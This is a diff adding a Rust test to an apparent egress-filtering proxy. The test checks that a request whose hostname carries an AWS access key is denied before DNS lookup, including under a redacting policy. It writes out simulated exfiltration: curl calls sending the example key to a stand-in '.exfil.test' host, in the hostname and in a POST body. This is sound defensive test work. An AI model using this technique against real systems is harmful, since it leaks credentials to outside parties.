@@ -1129,6 +1129,95 @@ when { context.findings.contains("aws_access_key") };
 }
 
 #[tokio::test]
+async fn a_secret_in_a_plain_http_urls_host_is_refused_before_it_is_looked_up() {
+    let http = Origin::start(LOOPBACK, 0, None).await.unwrap();
+    let port = http.addr.port();
+    // The DNS server would answer for the name that carries the key: a query for it, or the
+    // request sent to it, would leak the key.
+    let name = "akiaiosfodnn7example.exfil.test";
+    let dns = Dns::start(json!({name: [["127.0.0.1"]], "ok.exfil.test": [["127.0.0.1"]]}))
+        .await
+        .unwrap();
+    let policies = r#"
+@id("egress-exfil-test")
+@egress("internal")
+permit (principal is Agent, action in [Action::"egress:connect", Action::"egress:request"], resource)
+when { resource.name like "*.exfil.test" };
+
+@id("egress-no-aws-keys")
+@reason("an AWS key leaves")
+forbid (principal, action, resource)
+when { context.findings.contains("aws_access_key") };
+"#;
+    let (warden, proxy, token) = allowlist_and(&dns, ("exfil.cedar", policies)).await;
+    let got = curl(proxy, Some(&token), &[&format!("http://{name}:{port}/")])
+        .await
+        .unwrap();
+    assert_eq!(got.status, 403, "{got:?}");
+    assert!(got.body.contains("an AWS key leaves"), "{got:?}");
+    // A name without a secret goes, as always.
+    let got = curl(
+        proxy,
+        Some(&token),
+        &[&format!("http://ok.exfil.test:{port}/")],
+    )
+    .await
+    .unwrap();
+    assert_eq!(got.status, 200, "{got:?}");
+    assert!(
+        !dns.queries().iter().any(|q| q["name"] == name),
+        "the name with the key was looked up: {:?}",
+        dns.queries()
+    );
+    assert_eq!(http.seen().len(), 1, "only ok.exfil.test arrived");
+    let record = records_for(&warden, name)
+        .into_iter()
+        .find(|r| r["kind"] == "decision")
+        .expect("the decision");
+    assert_eq!(record["decision"], "deny", "{record}");
+    assert_eq!(
+        record["detail"]["egress"]["addresses"],
+        json!([]),
+        "{record}"
+    );
+    assert_eq!(
+        record["findings"][0]["location"], "url host, byte 0",
+        "{record}"
+    );
+
+    // A forbid that redacts cannot redact a host: the request is still denied, and the name
+    // is not looked up for the redaction's sake either.
+    let redacting = policies.replace(
+        "@reason(\"an AWS key leaves\")",
+        "@reason(\"AWS keys are redacted\")\n@on_match(\"redact\")",
+    );
+    warden.write_policy("exfil.cedar", &redacting).unwrap();
+    let url = format!("http://{name}:{port}/");
+    let body = "k=AKIAIOSFODNN7EXAMPLE";
+    let redacted = async {
+        loop {
+            let got = curl(proxy, Some(&token), &[&url, "--data", body])
+                .await
+                .unwrap();
+            if got.body.contains("AWS keys are redacted") {
+                return got;
+            }
+            tokio::time::sleep(Duration::from_millis(200)).await;
+        }
+    };
+    let got = tokio::time::timeout(Duration::from_secs(20), redacted)
+        .await
+        .expect("the redacting policy is loaded");
+    assert_eq!(got.status, 403, "{got:?}");
+    assert!(
+        !dns.queries().iter().any(|q| q["name"] == name),
+        "the name with the key was looked up: {:?}",
+        dns.queries()
+    );
+    assert_eq!(http.seen().len(), 1, "only ok.exfil.test arrived");
+}
+
+#[tokio::test]
 async fn a_tunnel_that_carries_nothing_for_the_idle_timeout_is_closed() {
     use tokio::io::AsyncWriteExt;
     // Accepts and never writes.
